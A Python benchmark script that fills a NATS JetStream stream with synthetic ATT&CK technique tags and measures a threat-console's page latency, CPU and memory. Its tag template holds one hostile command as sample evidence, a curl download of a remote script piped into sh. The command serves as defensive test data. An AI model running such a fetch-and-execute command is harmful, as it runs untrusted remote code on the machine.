"""Benchmark of the web console at scale: a week of tags in TTP_TAGS, then its pages.

Run from the repository root:

    .venv/bin/python -m bench.console [--tags 1000000] [--tags-per-message 2]
                                      [--attackers 50000] [--requests 20]

It starts its own nats-server (JetStream in a temporary directory) and creates the streams,
then plays the workers: ``--tags`` tags on TTP_TAGS, ``--tags-per-message`` per message (one
message per event, as workers publish), spread over the known ATT&CK techniques and
``--attackers`` attacker uuids. Then it starts a real ``ttp-console`` process (proxy login
mode, the benchmark's address trusted; every other setting at its default) and measures:

- time to first page: from the process start to the first 200 of ``/`` (the matrix renders
  while the feed still loads), and to ``/readyz`` 200 (the tag and rule feeds caught up);
- the console's CPU seconds until caught up, per 100,000 tags (from /proc: the figure to
  compare on a loaded machine, since the nats-server's share does not count in it);
- latency of the matrix (each window and the coverage map), a technique inspector, an
  attacker page and the attackers list: ``--requests`` sequential requests each, median and
  worst wall time, and the console's CPU milliseconds per request over the same requests;
  a few matrix requests are also timed while the feed is still loading;
- memory: the console's RSS once caught up and after the pages, and its peak (VmHWM).

The last line of stdout is one JSON object.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import itertools
import json
import os
import random
import statistics
import subprocess
import sys
import tempfile
import time
import uuid
from collections.abc import Sequence
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, Final

import aiohttp
import nats

from ttp_core.attack.catalogue import load_catalogue
from ttp_core.contract import subjects
from ttp_core.contract.payloads import EventTagged, TagData, encode, envelope, worker_source
from ttp_runtime.embedded import EmbeddedNats, free_port
from ttp_runtime.nats import ensure_streams

WEEK_S: Final = 7 * 24 * 3600.0
PUBLISH_FLUSH_EVERY: Final = 5000
USER_HEADER: Final = {"X-Forwarded-User": "bench"}
CLK_TCK: Final = os.sysconf("SC_CLK_TCK")


def _template(tags_per_message: int) -> bytes:
    """One tag message with placeholders the generator replaces by plain byte swaps."""
    tags = [
        TagData(
            uuid=f"{n:036d}",
            rule_id=f"RULE{n}XXXXX",
            rule_version=1,
            tactic="TA0002",
            technique_id=f"TECH{n}XXXX",
            sub_technique_id=None,
            confidence=0.75,
            evidence={
                "command_text": "curl -fsSL http://203.0.113.9/x.sh | sh",
                "username": "root",
            },
            attack_version="18.1",
            mitre_url="https://attack.mitre.org/techniques/T1059/",
        )
        for n in range(tags_per_message)
    ]
    data = EventTagged(
        source_kind="command",
        source_id="SOURCEXXXXXXXXXX",
        attacker_uuid="ATTACKERXXXXXXXXXXXXXXXXXXXXXXXXXXXX",
        revision=1,
        tags=tags,
    )
    when = datetime(2000, 1, 1, tzinfo=UTC)
    return encode(envelope(data, source=worker_source("bench"), subject="x", time=when))


def messages(total_tags: int, per_message: int, attackers: int, seed: int = 7) -> list[bytes]:
    """The tag messages, their times spread over the last 6.9 days."""
    rng = random.Random(seed)
    catalogue = load_catalogue()
    techniques = [t.id for t in catalogue.techniques() if not t.revoked and not t.deprecated]
    # Skewed like honeypot traffic: a few techniques carry most tags.
    cumulative = list(itertools.accumulate(1.0 / (rank + 1) for rank in range(len(techniques))))
    template = _template(per_message)
    now = datetime.now(UTC)
    base_time = envelope_time(template)
    out = []
    for n in range(total_tags // per_message):
        body = template
        for slot in range(per_message):
            technique = rng.choices(techniques, cum_weights=cumulative)[0]
            parent, dot, _ = technique.partition(".")
            body = body.replace(
                f'"technique_id":"TECH{slot}XXXX","sub_technique_id":null'.encode(),
                (
                    f'"technique_id":"{parent}","sub_technique_id":"{technique}"'
                    if dot
                    else f'"technique_id":"{parent}","sub_technique_id":null'
                ).encode(),
            )
            body = body.replace(f"RULE{slot}XXXXX".encode(), f"R{rng.randrange(100):04d}".encode())
        when = now - timedelta(seconds=rng.uniform(60, WEEK_S - 3 * 3600))
        body = body.replace(base_time, when.isoformat().replace("+00:00", "Z").encode())
        body = body.replace(b"SOURCEXXXXXXXXXX", f"evt-{n:012d}".encode())
        body = body.replace(
            b"ATTACKERXXXXXXXXXXXXXXXXXXXXXXXXXXXX",
            str(uuid.UUID(int=rng.randrange(attackers))).encode(),
        )
        out.append(body)
    return out


def envelope_time(raw: bytes) -> bytes:
    value: str = json.loads(raw)["time"]
    return value.encode()


async def publish(url: str, bodies: Sequence[bytes]) -> float:
    """Core publishes on the stream's subject (JetStream stores them); seconds taken."""
    started = time.monotonic()
    nc = await nats.connect(url, pending_size=64 * 1024 * 1024)
    try:
        js = nc.jetstream()
        await ensure_streams(js, 1, WEEK_S, -1, WEEK_S)
        subject = subjects.tagged("command")
        for n, body in enumerate(bodies, 1):
            await nc.publish(subject, body)
            if n % PUBLISH_FLUSH_EVERY == 0:
                await nc.flush(timeout=60)
                await _wait_stored(js, n, slack=4 * PUBLISH_FLUSH_EVERY)
        await nc.flush(timeout=60)
        await _wait_stored(js, len(bodies), slack=0)
    finally:
        await nc.close()
    return time.monotonic() - started


async def _wait_stored(js: Any, count: int, slack: int) -> None:
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline:
        info = await js.stream_info(subjects.STREAM_TAGS)
        if info.state.messages >= count - slack:
            return
        await asyncio.sleep(0.02)
    raise RuntimeError(f"TTP_TAGS holds {info.state.messages} of {count} messages")


def cpu_seconds(pid: int) -> float:
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / CLK_TCK


def memory_kib(pid: int) -> dict[str, int]:
    found = {}
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        key, _, value = line.partition(":")
        if key in {"VmRSS", "VmHWM"}:
            found[key] = int(value.split()[0])
    return found


async def timed_get(http: aiohttp.ClientSession, url: str) -> tuple[int, float]:
    started = time.perf_counter()
    async with http.get(url, headers=USER_HEADER, allow_redirects=False) as response:
        await response.read()
        return response.status, time.perf_counter() - started


async def wait_for(http: aiohttp.ClientSession, url: str, proc: subprocess.Popen[bytes]) -> float:
    """Seconds (monotonic clock) when ``url`` first answered 200."""
    while True:
        if proc.poll() is not None:
            raise RuntimeError(f"the console exited with {proc.returncode}")
        with contextlib.suppress(aiohttp.ClientError):
            status, _ = await timed_get(http, url)
            if status == 200:
                return time.monotonic()
        await asyncio.sleep(0.02)


async def measure(args: argparse.Namespace, url: str, work: Path, attacker: str) -> dict[str, Any]:
    port, health_port = free_port(), free_port()
    env = {
        **os.environ,
        "TTP_NATS_URL": url,
        "TTP_CONSOLE_HOST": "127.0.0.1",
        "TTP_CONSOLE_PORT": str(port),
        "TTP_HTTP_HOST": "127.0.0.1",
        "TTP_HTTP_PORT": str(health_port),
        "TTP_CONSOLE_AUTH": "proxy",
        "TTP_CONSOLE_TRUSTED_PROXIES": "127.0.0.1/32",
        "TTP_CONSOLE_SESSION_SECRET": "b" * 40,
        "TTP_LOG_FORMAT": "json",
    }
    log = (work / "console.log").open("wb")
    started = time.monotonic()
    proc = subprocess.Popen(
        [sys.executable, "-c", "from ttp_console.cli import main; main()"],
        env=env,
        stdout=log,
        stderr=subprocess.STDOUT,
    )
    base = f"http://127.0.0.1:{port}"
    result: dict[str, Any] = {}
    try:
        async with aiohttp.ClientSession() as http:
            first_page = await wait_for(http, f"{base}/", proc)
            result["first_page_s"] = round(first_page - started, 3)
            loading = []
            for _ in range(5):
                status, seconds = await timed_get(http, f"{base}/?window=7d")
                if status == 200:
                    loading.append(seconds)
            ready = await wait_for(http, f"http://127.0.0.1:{health_port}/readyz", proc)
            result["caught_up_s"] = round(ready - started, 3)
            cpu_ready = cpu_seconds(proc.pid)
            result["cpu_until_caught_up_s"] = round(cpu_ready, 2)
            result["cpu_per_100k_tags_s"] = round(cpu_ready / args.tags * 100_000, 3)
            result["matrix_while_loading_ms"] = [round(s * 1000, 1) for s in loading]
            result["memory_caught_up_kib"] = memory_kib(proc.pid)
            pages = {
                "matrix_24h": "/",
                "matrix_1h": "/?window=1h",
                "matrix_7d": "/?window=7d",
                "matrix_covered": "/?heat=covered",
                "technique_T1059": "/techniques/T1059",
                "attacker": f"/attackers/{attacker}",
                "attackers": "/attackers",
            }
            latency = {}
            for name, path in pages.items():
                status, _ = await timed_get(http, base + path)  # warm-up
                if status != 200:
                    raise RuntimeError(f"{path} answered {status}")
                cpu_before = cpu_seconds(proc.pid)
                walls = []
                for _ in range(args.requests):
                    _, seconds = await timed_get(http, base + path)
                    walls.append(seconds)
                cpu = cpu_seconds(proc.pid) - cpu_before
                latency[name] = {
                    "median_ms": round(statistics.median(walls) * 1000, 1),
                    "max_ms": round(max(walls) * 1000, 1),
                    "cpu_ms_per_request": round(cpu / args.requests * 1000, 1),
                }
            result["pages"] = latency
            result["memory_after_pages_kib"] = memory_kib(proc.pid)
    finally:
        proc.terminate()
        try:
            result["exit_code"] = proc.wait(timeout=15)
        except subprocess.TimeoutExpired:
            proc.kill()
            result["exit_code"] = proc.wait()
        log.close()
    return result


async def main_async(args: argparse.Namespace) -> dict[str, Any]:
    bodies = messages(args.tags, args.tags_per_message, args.attackers)
    print(
        f"{len(bodies)} messages of {args.tags_per_message} tags"
        f" ({sum(map(len, bodies)) / 1e6:.0f} MB), {args.attackers} attackers",
        file=sys.stderr,
    )
    with tempfile.TemporaryDirectory(prefix="ttp-bench-console-") as tmp:
        work = Path(tmp)
        with EmbeddedNats(data_dir=work / "nats") as server:
            seconds = await publish(server.url, bodies)
            # The last one read is certainly among the attackers the console keeps.
            attacker = json.loads(bodies[-1])["data"]["attacker_uuid"]
            del bodies
            print(f"published and stored in {seconds:.1f} s", file=sys.stderr)
            result = await measure(args, server.url, work, attacker)
    result.update(
        tags=args.tags,
        tags_per_message=args.tags_per_message,
        attackers=args.attackers,
        requests=args.requests,
    )
    return result


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--tags", type=int, default=1_000_000)
    parser.add_argument("--tags-per-message", type=int, default=2)
    parser.add_argument("--attackers", type=int, default=50_000)
    parser.add_argument("--requests", type=int, default=20)
    args = parser.parse_args()
    result = asyncio.run(main_async(args))
    for key, value in result.items():
        print(f"{key}: {value}", file=sys.stderr)
    print(json.dumps(result))


if __name__ == "__main__":
    main()
